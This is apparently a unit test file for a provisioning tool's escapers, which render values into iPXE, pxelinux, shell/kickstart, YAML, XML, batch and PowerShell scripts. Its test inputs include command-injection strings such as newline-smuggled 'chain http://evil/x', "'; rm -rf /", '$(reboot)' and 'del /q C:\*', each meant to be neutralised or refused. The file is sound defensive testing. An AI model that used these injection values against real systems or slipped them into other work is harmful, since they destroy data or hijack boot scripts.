/**
 * Each escaper with safe and hostile input, exact output expected. A value
 * is either written so that its reader takes it as one inert value, or
 * refused with an UnsafeValueError that names it and the character.
 */
import { describe, expect, it } from 'vitest';
import { batch, CONTENT_TYPES, ESCAPERS, ipxe, ipxeLabel, powershell, pxelinux, Safe, shell, targetFor, UnsafeValueError, xml, yaml } from '../../src/render/escape.js';

function refusal(f: (v: unknown) => unknown, v: unknown): string {
  try {
    f(v);
  } catch (e) {
    expect(e).toBeInstanceOf(UnsafeValueError);
    return (e as Error).message;
  }
  throw new Error(`${JSON.stringify(v)} was not refused`);
}

describe('ipxe', () => {
  it.each([
    ['web01', 'web01'],
    ['http://10.0.0.5:8080/assets/debian12/linux', 'http://10.0.0.5:8080/assets/debian12/linux'],
    ['console=ttyS0,115200n8', 'console=ttyS0,115200n8'],
    ['tftp://10.0.0.9/a?b=c', 'tftp://10.0.0.9/a?b=c'],
    ['%COMSPEC%', '%COMSPEC%'],
    ['', ''],
  ])('writes %j as %j', (input, out) => {
    expect(ipxe(input)).toBe(out);
  });

  it('writes null and undefined as nothing, numbers as digits', () => {
    expect(ipxe(null)).toBe('');
    expect(ipxe(undefined)).toBe('');
    expect(ipxe(15000)).toBe('15000');
  });

  it('names the value and the character it refuses', () => {
    expect(refusal(ipxe, 'x\nchain http://evil/x')).toBe('value "x\\nchain http://evil/x" cannot be written into an iPXE script: it contains a newline (use it.label() for display text)');
    expect(refusal(ipxe, 'a b')).toBe('value "a b" cannot be written into an iPXE script: it contains a space (use it.label() for display text)');
  });

  it.each([
    ['${net0/ip}', '"$"'],
    ['a&b', '"&"'],
    ['a||b', '"|"'],
    ['a;b', '";"'],
    ['#comment', '"#"'],
    [`it's`, `"'"`],
    ['a"b', '"""'],
    ['a\\b', '"\\"'],
    ['a\tb', 'a tab'],
    ['a\rb', 'a carriage return'],
    ['a\u0000b', 'control character U+0000'],
    ['a\u007fb', 'control character U+007f'],
    ['a<b', '"<"'],
  ])('refuses %j (%s)', (input, what) => {
    expect(refusal(ipxe, input)).toContain(`it contains ${what}`);
  });

  it('shortens a long value in the message', () => {
    const msg = refusal(ipxe, 'a'.repeat(70) + ' ');
    expect(msg).toContain(`value "${'a'.repeat(60)}"… cannot be written`);
  });

  it('passes a Safe through untouched, whatever it holds', () => {
    expect(ipxe(new Safe('http://x/a?b=1&c=2'))).toBe('http://x/a?b=1&c=2');
  });
});

describe('ipxeLabel', () => {
  it('keeps display text readable and drops control characters and "$"', () => {
    const l = ipxeLabel('Debian 12 (bookworm)\n${net0/ip}\tx');
    expect(l).toBeInstanceOf(Safe);
    expect(l.value).toBe('Debian 12 (bookworm) {net0/ip} x');
  });

  it('cuts at 200 characters', () => {
    expect(ipxeLabel('x'.repeat(300)).value).toHaveLength(200);
  });
});

describe('pxelinux', () => {
  it('writes one word as it is, quotes and all (pxelinux has no quoting or expansion)', () => {
    expect(pxelinux(`a"b'c&d$e`)).toBe(`a"b'c&d$e`);
    expect(pxelinux('http://10.0.0.5/x,y')).toBe('http://10.0.0.5/x,y');
  });

  it.each([
    ['a b', 'a space'],
    ['a\nAPPEND evil', 'a newline'],
    ['a\tb', 'a tab'],
    ['a\u000bb', 'control character U+000b'],
  ])('refuses %j (%s)', (input, what) => {
    expect(refusal(pxelinux, input)).toBe(`value ${JSON.stringify(input)} cannot be written into a pxelinux config: it contains ${what}`);
  });
});

describe('shell', () => {
  it.each([
    ['web01', 'web01'],
    ['10.0.0.1,10.0.0.2', '10.0.0.1,10.0.0.2'],
    ['http://10.0.0.5:9000/done/db01', 'http://10.0.0.5:9000/done/db01'],
    ['', "''"],
    ['a b', "'a b'"],
    ["'; rm -rf /; '", `''\\''; rm -rf /; '\\'''`],
    ['$6$salt$hash', "'$6$salt$hash'"],
    ['$(reboot)', "'$(reboot)'"],
    ['`reboot`', "'`reboot`'"],
    ['a&b', "'a&b'"],
    ['x\\', "'x\\'"],
    ['~root', "'~root'"],
    ['*', "'*'"],
  ])('writes %j as %j', (input, out) => {
    expect(shell(input)).toBe(out);
  });

  it.each([
    ['x\nrm -rf /', 'a newline'],
    ['x\r\nrm -rf /', 'a carriage return'],
    ['a\tb', 'a tab'],
    ['a\u0000', 'control character U+0000'],
  ])('refuses %j (%s)', (input, what) => {
    expect(refusal(shell, input)).toBe(`value ${JSON.stringify(input)} cannot be written into a shell or kickstart line: it contains ${what}`);
  });

  it('passes a Safe through untouched', () => {
    expect(shell(new Safe('http://x/a b'))).toBe('http://x/a b');
  });
});

describe('yaml', () => {
  it.each([
    ['web01', '"web01"'],
    ['', '""'],
    ['x\nchain: evil', '"x\\nchain: evil"'],
    ['a "quoted" \\ value', '"a \\"quoted\\" \\\\ value"'],
    ['#not a comment', '"#not a comment"'],
    ['yes', '"yes"'],
    ['a\u0000b', '"a\\u0000b"'],
  ])('writes %j as %j', (input, out) => {
    expect(yaml(input)).toBe(out);
  });

  it('quotes a Safe too, and writes null as an empty string', () => {
    expect(yaml(new Safe('http://x/'))).toBe('"http://x/"');
    expect(yaml(null)).toBe('""');
  });
});

describe('xml', () => {
  it.each([
    ['win01', 'win01'],
    ['</ComputerName><Evil>x</Evil>', '&#60;/ComputerName&#62;&#60;Evil&#62;x&#60;/Evil&#62;'],
    [`a&b "c" 'd'`, 'a&#38;b &#34;c&#34; &#39;d&#39;'],
    ['line1\nline2\r\tx', 'line1&#10;line2&#13;&#9;x'],
    ['Grüße €', 'Grüße €'],
  ])('writes %j as %j', (input, out) => {
    expect(xml(input)).toBe(out);
  });

  it('escapes a Safe as well: XML has no raw path', () => {
    expect(xml(new Safe('http://x/?a=1&b=2'))).toBe('http://x/?a=1&#38;b=2');
  });

  it.each([
    ['a\u0000b', 'control character U+0000'],
    ['a\u0008b', 'control character U+0008'],
    ['a\u001fb', 'control character U+001f'],
    ['a\ufffeb', '"\ufffe"'],
  ])('refuses %j, which XML 1.0 cannot carry (%s)', (input, what) => {
    expect(refusal(xml, input)).toBe(`value ${JSON.stringify(input)} cannot be written into XML: it contains ${what}`);
  });
});

describe('batch', () => {
  it.each([
    ['win01', 'win01'],
    ['Z:\\sources\\install.wim', 'Z:\\sources\\install.wim'],
    ['\\\\fileserver\\images', '\\\\fileserver\\images'],
    ['W. Europe Standard Time', 'W. Europe Standard Time'],
    ['${net0/ip}', '${net0/ip}'],
  ])('writes %j as %j', (input, out) => {
    expect(batch(input)).toBe(out);
  });

  it.each([
    ['%COMSPEC%', '"%"'],
    ['x & del /q C:\\*', '"&"'],
    ['!PATH!', '"!"'],
    ['a|b', '"|"'],
    ['a>b', '">"'],
    ['a<b', '"<"'],
    ['a^b', '"^"'],
    ['(a)', '"("'],
    ['"a"', '"""'],
    ['a\nb', 'a newline'],
    ['a?b', '"?"'],
  ])('refuses %j (%s)', (input, what) => {
    expect(refusal(batch, input)).toBe(`value ${JSON.stringify(input)} cannot be written into a batch or diskpart script: it contains ${what}`);
  });
});

describe('powershell', () => {
  it.each([
    ['web01', "'web01'"],
    ["it's", "'it''s'"],
    ['it\u2019s', "'it\u2019\u2019s'"],
    ['$env:COMPUTERNAME; Remove-Item C:\\', "'$env:COMPUTERNAME; Remove-Item C:\\'"],
    ['', "''"],
  ])('writes %j as %j', (input, out) => {
    expect(powershell(input)).toBe(out);
  });

  it('refuses a newline', () => {
    expect(refusal(powershell, 'a\nb')).toBe('value "a\\nb" cannot be written into a PowerShell script: it contains a newline');
  });
});

describe('targetFor', () => {
  it.each([
    ['ipxe/linux.ipxe', 'ipxe'],
    ['custom/thing.ipxe', 'ipxe'],
    ['pxelinux/linux.cfg', 'pxelinux'],
    ['kickstart/rhel.cfg', 'shell'],
    ['preseed/debian.cfg', 'shell'],
    ['autoinstall/user-data.yaml', 'yaml'],
    ['cloud/user-data.yml', 'yaml'],
    ['winpe/unattend.xml', 'xml'],
    ['winpe/autorun.bat', 'batch'],
    ['winpe/startnet.cmd', 'batch'],
    ['winpe/diskpart.txt', 'batch'],
    ['winpe/setup.ps1', 'powershell'],
    ['scripts/post.sh', 'shell'],
  ])('%s speaks %s', (name, target) => {
    expect(targetFor(name)).toBe(target);
  });

  it('every target has an escaper and a content type', () => {
    for (const t of ['ipxe', 'pxelinux', 'shell', 'yaml', 'xml', 'batch', 'powershell'] as const) {
      expect(typeof ESCAPERS[t]).toBe('function');
      expect(CONTENT_TYPES[t]).toMatch(/charset=utf-8$/);
    }
    expect(CONTENT_TYPES.xml).toBe('application/xml; charset=utf-8');
  });
});

/**
 * Gaps reported with these tests; each is expected to fail until the escaper
 * is fixed, and then fails itself as a reminder to turn it into a plain test.
 */
describe('line breaks and operators beyond ASCII controls', () => {
  it('ipxeLabel defuses the iPXE operator words "||", "&&", ";" and "#…"', () => {
    // iPXE (core/exec.c) splits a line into commands at these words, so
    // "item x Rescue ; chain http://evil/x" runs the chain.
    const words = ipxeLabel('Rescue ; chain http://evil/x || reboot && x #y').value.split(' ');
    for (const op of [';', '||', '&&']) expect(words).not.toContain(op);
    expect(words.some((w) => w.startsWith('#'))).toBe(false);
  });

  it('yaml escapes U+2028, U+2029 and U+0085, which PyYAML reads as line breaks', () => {
    expect(yaml('a\u2028b\u2029c\u0085d')).toBe('"a\\u2028b\\u2029c\\u0085d"');
  });

  it('yaml escapes DEL and C1 controls, which make PyYAML refuse the whole document', () => {
    expect(yaml('a\u007fb\u0090c')).toBe('"a\\u007fb\\u0090c"');
  });

  it('shell refuses U+2028, U+2029 and U+0085, where Python splitlines() (pykickstart) ends a line', () => {
    expect(() => shell('a\u2028b')).toThrow(UnsafeValueError);
  });
});
